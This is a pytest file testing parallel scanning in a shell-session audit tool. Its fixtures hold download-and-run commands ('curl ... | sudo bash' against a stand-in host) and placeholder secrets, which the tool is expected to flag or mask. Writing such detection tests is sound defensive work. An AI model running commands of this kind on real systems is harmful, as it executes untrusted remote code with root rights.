"""`sessionguard scan --jobs N` (issue #18): every core, and the same bytes out as `--jobs 1`.

The corpus mixes what a security engineer feeds `scan`: streamed events of several sessions interleaved, one session
continued in a second (gzipped) file, malformed records, a typescript, a Windows session, a binary file and a missing
one, secrets typed and in metadata. The chunk size is made small so that each JSON Lines file is read in several
chunks (byte ranges of a plain file, runs of lines of a gzipped one), as a large export is, sessions are cut between
workers and sent from one to the other, and the pool is really used (a spy counts it).
"""

from __future__ import annotations

import gzip
import io
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sessionguard.archive import chunks, parallel
from sessionguard.archive.parallel import ScanSettings, WorkerPool
from sessionguard.cli import EXIT_INCOMPLETE, build_parser, main
from sessionguard.rules import RulePack
from sessionguard.severity import Severity

EVENTS = Path(__file__).resolve().parents[2] / "events"
SECRETS = ("Hunter2-Prod!", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY", "ghp_qsR6RZ24lPoQj3oPUlieI2nVsbBi1RMar1jf")
Run = tuple[int, str, str]


def scan(*argv: str) -> Run:
    """Exit status, standard output and standard error of `sessionguard scan ARGV`, as bytes would be written."""
    out, err = io.StringIO(), io.StringIO()
    status = main(["scan", *argv], stdin=io.StringIO(), stdout=out, stderr=err)
    return status, out.getvalue(), err.getvalue()


def _lines(name: str) -> list[str]:
    return (EVENTS / name).read_text(encoding="utf-8").splitlines()


def _interleave(*streams: list[str]) -> list[str]:
    merged: list[str] = []
    for index in range(max(map(len, streams))):
        merged += [stream[index] for stream in streams if index < len(stream)]
    return merged


def _token_event() -> str:
    """A session whose user ARN and session id carry a token: the metadata is masked whatever the worker."""
    event: dict[str, Any] = json.loads(_lines("session-risky.jsonl")[0])
    token = SECRETS[2]
    event.update(
        sessionId=f"{token}-0b7e9d1c",
        userIdentity={"arn": f"arn:aws:sts::111122223333:assumed-role/Admin/{token}"},
        sessionData=["sh-4.2$ curl -s https://x.example/i.sh | sudo bash"],
    )
    return json.dumps(event)


@pytest.fixture
def corpus(tmp_path: Path) -> list[str]:
    risky, stream = _lines("session-risky.jsonl"), _lines("session-stream.jsonl")
    first = tmp_path / "export-1.jsonl"
    first.write_text(
        "\n".join([*_interleave(risky[:6], stream[:5]), "{not json", _token_event(), '{"sessionId": 7}']) + "\n"
    )
    second = tmp_path / "export-2.jsonl.gz"  # the risky session goes on here
    second.write_bytes(gzip.compress(("\n".join([*stream[5:], *risky[6:], "[1, 2]"]) + "\n").encode()))
    binary = tmp_path / "i-0a1b2c3d4e5f60718.log"
    binary.write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8)
    return [
        str(first),
        str(EVENTS / "transcript-jane.roe-0b7e9d1c4a2f8e6d5.log"),
        str(tmp_path / "missing.jsonl"),
        str(second),
        str(binary),
        str(EVENTS / "windows-session-suspicious.jsonl"),
        str(EVENTS / "get-log-events.json"),
    ]


@pytest.fixture
def pools(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Small chunks (each JSON Lines file read in several), and the size of every pool of workers the scan starts."""
    monkeypatch.setattr(parallel, "PIECE_CHARS", 600)
    monkeypatch.setattr(parallel, "POOL_MIN_CHARS", 0)
    started: list[int] = []

    class CountedPool(WorkerPool):
        def __init__(self, size: int, *args: Any) -> None:
            started.append(size)
            super().__init__(size, *args)

    monkeypatch.setattr(parallel, "WorkerPool", CountedPool)
    return started


@pytest.mark.parametrize("options", [(), ("--transcript",), ("--min-severity", "info", "--transcript")])
def test_jobs_2_writes_the_same_bytes_as_jobs_1(corpus: list[str], pools: list[int], options: tuple[str, ...]) -> None:
    serial = scan("--jobs", "1", *options, *corpus)
    assert pools == []  # --jobs 1: no pool at all

    parallel_run = scan("--jobs", "2", *options, *corpus)

    assert pools == [2]
    assert parallel_run == serial
    status, stdout, stderr = serial
    assert status == 2
    records = [json.loads(line) for line in stdout.splitlines()]
    assert sum(record["type"] == "alert" for record in records) >= 5
    assert not any(secret in stdout + stderr for secret in SECRETS)
    # Problems keep their place in each file and their reason, wherever the piece was read.
    for problem in (
        f"{corpus[0]}: line 12: record is not JSON",
        f"{corpus[0]}: line 14: sessionId is a JSON number, not a string",
        "missing.jsonl: cannot read",
        f"{corpus[3]}: line 10 [0]: a JSON number is not a session event",
        f"{corpus[4]}: binary data",
    ):
        assert problem in stderr
    assert stderr.index("line 12: record") < stderr.index("missing.jsonl") < stderr.index("binary data")


def test_a_pool_started_by_spawn_writes_the_same_bytes(
    corpus: list[str], pools: list[int], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Workers need nothing inherited from this process (Python 3.14 starts them with forkserver by default)."""
    serial = scan("--jobs", "1", "--transcript", *corpus)
    monkeypatch.setattr(parallel, "START_METHODS", ("spawn",))

    assert scan("--jobs", "3", "--transcript", *corpus) == serial
    assert pools == [3]


def _split_command_files(tmp_path: Path) -> list[str]:
    """One session typed across two files: a command continued with `\\` at the end of the first export."""
    event: dict[str, Any] = json.loads(_lines("session-risky.jsonl")[1])
    halves = ["[ssm-user@ip-10-0-2-41 ~]$ curl -s https://198.51.100.23/i.sh \\", "> | sudo bash", "installing"]
    paths = []
    for number, data in enumerate((halves[:1], halves[1:]), start=1):
        path = tmp_path / f"part-{number}.jsonl"
        path.write_text(json.dumps(event | {"sessionData": data}) + "\n" + json.dumps(event | {"sessionId": "x"}))
        paths.append(str(path))
    return paths


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_session_across_two_files_is_one_analysis(tmp_path: Path, pools: list[int], jobs: str) -> None:
    status, stdout, _ = scan("--jobs", jobs, "--transcript", *_split_command_files(tmp_path))

    assert status == 0
    records = [json.loads(line) for line in stdout.splitlines() if '"x"' not in line]
    # Scanned file by file, the first file's command would end in `\` and the second's `> | sudo bash` would be
    # masked as a continuation of an unknown command, with no alert.
    assert [r["text"] for r in records if r["type"] == "line" and r["kind"] == "command"] == [
        "curl -s https://198.51.100.23/i.sh | sudo bash"
    ]
    assert [(r["rule_id"], r["command"]) for r in records if r["type"] == "alert"] == [
        ("SG-DLEX-001", "curl -s https://198.51.100.23/i.sh | sudo bash")
    ]
    assert "unparsed-line" not in stdout


@pytest.mark.parametrize("start", ["fork", "spawn"])
def test_an_invalid_rule_file_fails_the_same_way_with_a_pool(
    corpus: list[str], pools: list[int], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, start: str
) -> None:
    """Forked workers share the pack this process loads; spawned ones load their own and report its error."""
    monkeypatch.setattr(parallel, "START_METHODS", (start,))
    rules = tmp_path / "broken.yaml"
    rules.write_text("rules:\n  - id: SG-X\n")

    serial = scan("--jobs", "1", "--rules", str(rules), *corpus)

    assert serial[0] == 1
    assert scan("--jobs", "2", "--rules", str(rules), *corpus) == serial


def test_a_small_input_is_scanned_without_a_pool(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_pool(size: int, *args: Any) -> Iterator[None]:
        raise AssertionError("a pool was started")

    monkeypatch.setattr(parallel, "WorkerPool", no_pool)

    status, stdout, _ = scan("--jobs", "4", str(EVENTS / "session-risky.jsonl"))

    assert status == 0
    assert '"type": "alert"' in stdout


def test_jobs_defaults_to_the_available_cpus() -> None:
    args = build_parser().parse_args(["scan", "x.jsonl"])

    assert parallel.local_jobs(args.jobs) == parallel.available_cpus() >= 1
    with pytest.raises(SystemExit):
        build_parser().parse_args(["scan", "--jobs", "0", "x.jsonl"])


def test_json_lines_are_cut_into_chunks_at_line_ends_and_other_forms_are_not(corpus: list[str]) -> None:
    path = Path(corpus[0])
    data = path.read_bytes()
    ranges = chunks.plan_inputs([str(path)], io.StringIO(), 600)  # a plain file: byte ranges its worker reads
    text = chunks.split_text(chunks.Chunk(corpus[0], data.decode()), 600)  # read here (gzip, stdin): text runs

    for cut in (ranges, text):
        assert len(cut) > 3
        assert all(isinstance(chunk, chunks.Chunk) and chunk.lines for chunk in cut)
        assert [chunk.part for chunk in cut if isinstance(chunk, chunks.Chunk)] == list(range(len(cut)))
    assert [data[c.start : c.end] for c in ranges if isinstance(c, chunks.Chunk)] == [
        c.text.encode() for c in text if c.text is not None
    ]
    assert all(c.text is not None and c.text.endswith("\n") for c in text)
    assert "".join(c.text or "" for c in text) == data.decode()
    pretty = (EVENTS / "get-log-events.json").read_text()
    assert chunks.split_text(chunks.Chunk("x.json", pretty), 100) == [chunks.Chunk("x.json", pretty)]
    one_document = "[\n" + ",\n".join(_lines("session-risky.jsonl")) + "\n]\n"  # no line is an object by itself
    assert len(chunks.split_text(chunks.Chunk("x.json", one_document), 100)) == 1


def test_the_same_file_twice_counts_its_lines_from_1_each_time(corpus: list[str], pools: list[int]) -> None:
    serial = scan("--jobs", "1", corpus[0], corpus[0])

    assert scan("--jobs", "2", corpus[0], corpus[0]) == serial
    assert serial[2].count(f"{corpus[0]}: line 12: record is not JSON") == 2


def test_sessions_are_shared_out_evenly_and_mostly_where_they_were_read() -> None:
    def session(order: int, *held: tuple[int, int]) -> parallel._Session:
        return parallel._Session(order, f"s{order}", [chunk for chunk, _ in held], [weight for _, weight in held])

    # Chunks 0-1 were read by worker 0, chunk 2 by worker 1: worker 0 holds far more.
    sessions = [session(0, (0, 50)), session(1, (0, 30), (2, 10)), session(2, (1, 40)), session(3, (1, 5), (2, 25))]

    owned = parallel._share_out(sessions, [0, 0, 1], 2)

    # s3 is mostly worker 1's; of worker 0's, s1 moves (worker 1 holds a part of it already): 90 against 70, and
    # moving s0 or s2 as well would widen the gap.
    assert [[s.session_id for s in mine] for mine in owned] == [["s0", "s2"], ["s1", "s3"]]


@pytest.mark.parametrize("failure", ["raise", "exit"])
def test_a_worker_that_fails_or_dies_is_reported_and_nothing_hangs(
    corpus: list[str], pools: list[int], monkeypatch: pytest.MonkeyPatch, failure: str
) -> None:
    """The workers are forked, so they inherit the sabotaged reader: one chunk makes its worker fail."""
    real = chunks.read_chunk

    def sabotaged(chunk: chunks.Chunk) -> chunks.ChunkEvents:
        if chunk.source == corpus[3]:  # the gzipped export
            if failure == "exit":
                os._exit(9)
            raise KeyError(SECRETS[0])  # its message is not reported: exceptions can quote the data
        return real(chunk)

    monkeypatch.setattr(parallel, "read_chunk", sabotaged)
    monkeypatch.setattr(parallel, "START_METHODS", ("fork",))

    status, _, stderr = scan("--jobs", "2", *corpus)

    assert status == EXIT_INCOMPLETE
    expected = "stopped unexpectedly (exit status 9)" if failure == "exit" else "failed: KeyError at test_scan_parallel"
    assert f"sessionguard: a scan worker {expected}" in stderr
    assert "the output is incomplete" in stderr
    assert SECRETS[0] not in stderr


def test_a_pool_with_nothing_to_scan_stops_cleanly() -> None:
    settings = ScanSettings((), Severity.LOW, False)
    with WorkerPool(2, settings, RulePack.load()) as pool:
        assert pool.parse([]) == []
        assert list(pool.scan([[], []], [])) == []
    assert pool.alerts.count == 0
